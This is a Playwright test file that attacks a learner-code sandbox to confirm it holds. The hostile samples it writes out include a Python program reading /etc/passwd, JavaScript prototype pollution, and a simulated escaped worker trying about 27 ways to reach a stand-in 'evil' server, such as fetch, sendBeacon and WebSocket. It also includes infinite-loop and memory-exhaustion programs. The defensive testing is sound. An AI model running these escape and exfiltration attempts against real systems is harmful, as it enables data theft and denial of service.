import { readFileSync, readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, test as plain, type Page } from '@playwright/test';
import { testSite } from '../../scripts/lib/testSite.mjs';
import type * as sandbox from '../../src/components/sandbox/program.ts';
import type { CodeLanguage, CodeReply } from '../../src/engine/index.ts';

/*
 * Both walls around learners' programs (docs/architecture.md), attacked: the interpreter by programs, and the frame with its worker by
 * a script that stands in the place of the interpreter, as if that had been broken out of. The page answers all the while.
 */

/** The server that an attack would like to reach: whatever comes to it, down to a mere connection. */
const test = plain.extend<{ readonly evil: { readonly address: string; readonly hits: string[] } }>(
  {
    evil: async ({}, use) => {
      const hits: string[] = [];
      const server = createServer(({ url = '' }, response) => {
        hits.push(url);
        response.setHeader('access-control-allow-origin', '*').end('1');
      });
      server.on('connection', () => hits.push('a connection'));
      await new Promise<void>((ready) => void server.listen(0, '127.0.0.1', ready));
      const { port } = server.address() as AddressInfo;
      await use({ address: `http://127.0.0.1:${port}`, hits });
      server.close();
      expect(hits).toEqual([]);
    },
  },
);

/** The built file with the public face of the sandbox. */
const FACE = readdirSync(join(testSite.dir, '_astro')).find(
  (name) =>
    name.endsWith('.js') &&
    readFileSync(join(testSite.dir, '_astro', name), 'utf8').includes('as judgeProgram'),
);

interface Asked {
  readonly reply: CodeReply | string;
  /** Frames that are left over: one stays for a second, for the next program. */
  readonly frames: number;
  /** Milliseconds by which each beat of a clock that beats every 20 came late: so long the page stood still. */
  readonly gaps: readonly number[];
}

/** What a program comes to that is asked once, on a page that is busy with other things. */
async function ask(page: Page, language: CodeLanguage, source: string): Promise<Asked> {
  const options = { face: `${testSite.base}_astro/${FACE}`, language, source };
  return page.evaluate(async ({ face, language, source }) => {
    const { openProgram } = (await import(/* @vite-ignore */ face)) as typeof sandbox;
    const gaps: number[] = [];
    let last = performance.now();
    const timer = setInterval(() => {
      const now = performance.now();
      gaps.push(now - last - 20);
      last = now;
    }, 20);
    const opened = await openProgram({ language, source });
    const board = ['', '', '', '', '', '', '', '', ''] as const;
    const reply = opened.ok
      ? await opened.value.ask({ board, mark: 'X', draws: [] })
      : `${opened.problem.code} ${opened.problem.message}`;
    if (opened.ok) opened.value.end();
    clearInterval(timer);
    await new Promise((done) => setTimeout(done, 1500));
    return { reply, frames: document.querySelectorAll('iframe').length, gaps };
  }, options);
}

const faultOf = ({ reply }: Asked) => (typeof reply === 'string' ? reply : reply.fault);

/** It tries everything, one after the other, and says what it came to. */
const PROGRAMS: Readonly<Record<CodeLanguage, (evil: string) => string>> = {
  javascript: (evil) => `
    const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker', 'postMessage', 'importScripts', 'navigator',
      'indexedDB', 'caches', 'BroadcastChannel', 'Image', 'process', 'require', 'setTimeout', 'WebAssembly'];
    Object.prototype.cell = 7;
    Array.prototype.map = JSON.stringify = () => '{"cell": 8}';
    String.prototype.slice = () => 'x'.repeat(1e5);
    function play() {
      import('${evil}/import').then(() => console.log('imported'));
      const world = Function('return this')();
      for (const name of names) {
        if (name in world) console.log(name);
        try { world[name]('${evil}/' + name); console.log('called', name); } catch {}
      }
      return 4;
    }`,
  python: (evil) => `
def attempt(name, action):
    try:
        print(name, action())
    except BaseException:
        pass
def module(name):
    def load():
        return __import__(name)
    return load
def kept():
    from __main__ import _import
    return _import('js').fetch('${evil}/fetch')
def file():
    return open('/etc/passwd').read()
def play(board, mark):
    for name in ('js', 'jsffi', 'socket', 'urllib', 'requests', 'machine'):
        attempt(name, module(name))
    attempt('fetch', kept)
    attempt('file', file)
    return 4
`,
};

/** How a program may try to take the whole machine, and what it is told. */
const GREEDY: readonly (readonly [CodeLanguage, string, string, RegExp])[] = [
  ['javascript', 'a loop', 'function play() { for (;;); }', /budget.*interrupted/],
  [
    'javascript',
    'memory',
    'let a = "x"; function play() { for (;;) a += a; }',
    /error.*(too long|memory)/,
  ],
  ['javascript', 'depth', 'function play() { return play(); }', /error.*stack overflow/],
  [
    'javascript',
    'brackets',
    'function play() { return eval("(".repeat(1e5)); }',
    /error.*(stack|recursion)/,
  ],
  ['javascript', 'a loop at once', 'for (;;);', /budget/],
  [
    'python',
    'a loop that counts no steps',
    'def play(board, mark):\n    while True:\n        pass\n',
    /budget/,
  ],
  [
    'python',
    'memory',
    'def play(board, mark):\n    return len([0] * 10**9)\n',
    /error.*MemoryError/,
  ],
  ['python', 'depth', 'def play(board, mark):\n    return play(board, mark)\n', /error.*recursion/],
];

test.beforeEach(async ({ page }) => {
  expect(FACE).toBeDefined();
  await page.goto('./do/');
});

for (const language of ['javascript', 'python'] as const) {
  test(`${language}: a program finds nothing around it @engines`, async ({ page, evil }) => {
    const { reply, frames } = await ask(page, language, PROGRAMS[language](evil.address));
    expect(reply).toMatchObject({ cell: 4, printed: '', draws: [] });
    expect(frames).toBe(0);
  });
}

for (const language of ['javascript', 'python'] as const) {
  test(`${language}: what takes the whole machine is ended, and the page answers meanwhile`, async ({
    page,
  }) => {
    test.slow();
    const gaps: number[] = [];
    for (const [, what, source, fault] of GREEDY.filter(([each]) => each === language)) {
      const asked = await ask(page, language, source);
      expect(JSON.stringify(faultOf(asked)), what).toMatch(fault);
      expect(asked.frames, what).toBe(0);
      gaps.push(...asked.gaps);
    }
    // For most of the time; how long single moments last is up to the machine that runs the tests.
    const sum = (of: readonly number[]) => of.reduce((all, gap) => all + gap + 20, 0);
    expect(sum(gaps.filter((gap) => gap > 100))).toBeLessThan(sum(gaps) / 2);
    expect((await ask(page, language, PROGRAMS[language](''))).reply).toMatchObject({ cell: 4 });
  });
}

/** A script in the place of an interpreter. `hostile` is what it does instead of answering a call. */
const ESCAPED = (hostile: string) => `
  addEventListener('message', ({ ports: [port] }) => {
    port.onmessage = async ({ data: { isFresh } }) => {
      if (isFresh) port.postMessage({ kind: 'loaded' });
      else { ${hostile} }
    };
    port.postMessage({ kind: 'ready' });
  });`;

/** Everything that a worker has for getting out, or for keeping something. What succeeds is told as what was printed. */
const ATTEMPTS = (evil: string) => `
  const got = [], later = (what) => new Promise((yes, no) => setTimeout(no, 2000, what));
  const heard = (source) => new Promise((yes, no) => {
    source.onopen = source.onload = source.onmessage = source.onsuccess = yes;
    source.onerror = no;
  });
  const E = '${evil}';
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const tries = {
    fetch: () => fetch(E + '/fetch', { mode: 'no-cors' }),
    keepalive: () => fetch(E + '/late', { mode: 'no-cors', method: 'POST', keepalive: true, body: 'x' }),
    site: () => fetch('${testSite.base}'),
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', E + '/xhr'); x.send(); return heard(x); },
    sync: () => { const x = new XMLHttpRequest(); x.open('GET', E + '/sync', false); x.send(); },
    socket: () => heard(new WebSocket(E.replace('http', 'ws') + '/socket')),
    transport: () => new WebTransport(E.replace('http', 'https') + '/transport').ready,
    events: () => heard(new EventSource(E + '/events')),
    importScripts: () => importScripts(E + '/scripts'),
    importBlob: () => importScripts(blob('1')),
    importData: () => importScripts('data:text/javascript,1'),
    dynamic: () => import(E + '/dynamic'),
    dynamicBlob: () => import(blob('1')),
    eval: () => (0, eval)('1'),
    Function: () => Function('1')(),
    font: () => new FontFace('a', 'url(' + E + '/font)').load(),
    beacon: () => navigator.sendBeacon(E + '/beacon'),
    image: () => { new Image().src = E + '/image'; },
    indexedDB: () => heard(indexedDB.open('a')),
    caches: () => caches.open('a'),
    files: () => navigator.storage.getDirectory(),
    cookies: () => cookieStore.getAll(),
    serviceWorker: () => navigator.serviceWorker.register('/sw.js'),
    channel: () => new BroadcastChannel('a').postMessage(1),
    nested: () => heard(new Worker(blob('postMessage(1); fetch("' + E + '/nested")'))),
    shared: () => new SharedWorker(blob('1')),
    rtc: () => new RTCPeerConnection(),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try { await Promise.race([attempt(), later(name)]); got.push(name); } catch {}
  }
  port.postMessage({ kind: 'reply', reply: { cell: 4, printed: 'got ' + got, returned: Object.keys(tries).length + ' tries' } });`;

/** Puts a script in the place of both interpreters. */
const escape = (page: Page, hostile: string) =>
  page.route(/\/_astro\/(javascript|python)\.[^/]*txt$/, (route) =>
    route.fulfill({ contentType: 'text/plain', body: ESCAPED(hostile) }),
  );

test('a script that got out of its interpreter reaches nothing @engines', async ({
  page,
  evil,
}) => {
  await escape(page, ATTEMPTS(evil.address));
  const { reply } = await ask(page, 'javascript', '');
  expect(reply).toEqual({ cell: 4, returned: '27 tries', printed: 'got ', draws: [] });
});

const OUT = { kind: 'error', message: 'SandboxError' };
const TOO_LONG = { kind: 'budget', message: '' };
const ANSWER = `{ kind: 'reply', reply: { cell: 4 } }`;
const FOUL = [
  ['a flood of text', `for (;;) port.postMessage('x'.repeat(1e6));`, OUT],
  ['what no worker says', `port.postMessage({ kind: '__proto__', then: 1 });`, OUT],
  ['signs of life without end', `for (;;) port.postMessage({ kind: 'alive' });`, TOO_LONG],
  ['more answers than calls', `for (let n = 1e5; n--;) port.postMessage(${ANSWER});`, undefined],
] as const;
test('a script that got out of its interpreter is ended for what it sends', async ({ page }) => {
  for (const [what, hostile, fault] of FOUL) {
    await escape(page, hostile);
    await page.goto('./do/');
    const asked = await ask(page, 'python', '');
    expect(faultOf(asked), what).toEqual(fault);
    expect(asked.frames, what).toBe(0);
    await expect(page.locator('h1')).toBeVisible();
  }
});
